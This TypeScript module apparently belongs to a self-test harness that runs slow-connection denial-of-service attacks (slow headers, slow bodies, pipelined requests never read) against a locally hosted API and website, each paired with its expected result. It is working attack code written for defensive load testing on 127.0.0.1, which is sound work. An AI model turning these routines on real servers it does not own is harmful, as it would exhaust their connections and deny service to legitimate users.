/** Clients that take their time. */
import { connect, type Socket } from 'node:net';
import { setTimeout as wait } from 'node:timers/promises';
import type { Attack } from './attack.type.ts';
import { probe } from './client.ts';
import { demand } from './demand.ts';
import type { Product } from './product.ts';

const CONNECTIONS = 300;
/** Headers may take ten seconds, and are looked at every two. */
const LET_GO_MS = 14_000;

interface Crowd {
  sockets: Socket[];
  open: () => number;
  leave: () => void;
}

async function crowd(origin: string, first: string): Promise<Crowd> {
  const port = Number(new URL(origin).port);
  const closed = new Set<Socket>();
  const sockets = Array.from({ length: CONNECTIONS }, () => {
    const socket = connect(port, '127.0.0.1', () => socket.write(first));
    for (const event of ['close', 'error', 'end'] as const)
      socket.on(event, () => closed.add(socket));
    socket.resume();
    return socket;
  });
  await wait(1500);
  return {
    sockets,
    open: () => sockets.length - closed.size,
    leave: () => sockets.forEach((socket) => socket.destroy()),
  };
}

async function slowHeaders(product: Product, origin: string): Promise<string> {
  const they = await crowd(origin, 'POST /graphql HTTP/1.1\r\nHost: x\r\n');
  const drip = setInterval(() => {
    for (const socket of they.sockets) if (!socket.destroyed) socket.write('X-A: b\r\n');
  }, 1000);
  try {
    const meanwhile = await probe(product, 3000);
    const began = Date.now();
    while (they.open() > 0 && Date.now() - began < LET_GO_MS) await wait(250);
    demand(
      they.open() === 0,
      `${they.open()} of ${CONNECTIONS} still hold on after ${LET_GO_MS / 1000} s`,
    );
    return `${CONNECTIONS} let go after ${((Date.now() - began + 1500) / 1000).toFixed(0)} s; a stranger ${Math.round(meanwhile)} ms`;
  } finally {
    clearInterval(drip);
    they.leave();
  }
}

async function slowBodies(product: Product, origin: string): Promise<string> {
  const they = await crowd(
    origin,
    'POST /graphql HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 5000\r\n\r\n{"query":"',
  );
  const drip = setInterval(() => {
    for (const socket of they.sockets) if (!socket.destroyed) socket.write('#');
  }, 1000);
  try {
    const times = [await probe(product, 3000), await probe(product, 3000)];
    await wait(2000);
    times.push(await probe(product, 3000));
    return `${they.open()} hold on, a stranger ${Math.round(Math.max(...times))} ms`;
  } finally {
    clearInterval(drip);
    they.leave();
  }
}

async function slowReaders(product: Product): Promise<string> {
  const port = Number(new URL(product.web).port);
  const sockets = Array.from({ length: CONNECTIONS }, () => {
    const socket = connect(port, '127.0.0.1', () =>
      socket.write('GET /ideen HTTP/1.1\r\nHost: localhost\r\n\r\n'.repeat(5)),
    );
    socket.on('error', () => undefined);
    socket.pause();
    return socket;
  });
  try {
    await wait(4000);
    const ms = await probe(product, 8000);
    return `${CONNECTIONS} that read nothing; a stranger ${Math.round(ms)} ms`;
  } finally {
    sockets.forEach((socket) => socket.destroy());
  }
}

export const SLOW: Attack[] = [
  {
    group: 'slow',
    name: 'slow-headers-api',
    title: `${CONNECTIONS} connections that send a header a second, at the API`,
    expected: 'let go in 14 s, others answered',
    run: (product) => slowHeaders(product, product.api),
  },
  {
    group: 'slow',
    name: 'slow-headers-web',
    title: `${CONNECTIONS} connections that send a header a second, at the website`,
    expected: 'let go in 14 s, others answered',
    run: (product) => slowHeaders(product, product.web),
  },
  {
    group: 'slow',
    name: 'slow-body-api',
    title: `${CONNECTIONS} bodies drop by drop, at the API`,
    expected: 'others answered within 3 s',
    run: (product) => slowBodies(product, product.api),
  },
  {
    group: 'slow',
    name: 'slow-body-web',
    title: `${CONNECTIONS} bodies drop by drop, at the website`,
    expected: 'others answered within 3 s',
    run: (product) => slowBodies(product, product.web),
  },
  {
    group: 'slow',
    name: 'slow-readers',
    title: `${CONNECTIONS} that ask for five pages each and read nothing`,
    expected: 'others answered within 8 s',
    run: slowReaders,
  },
];
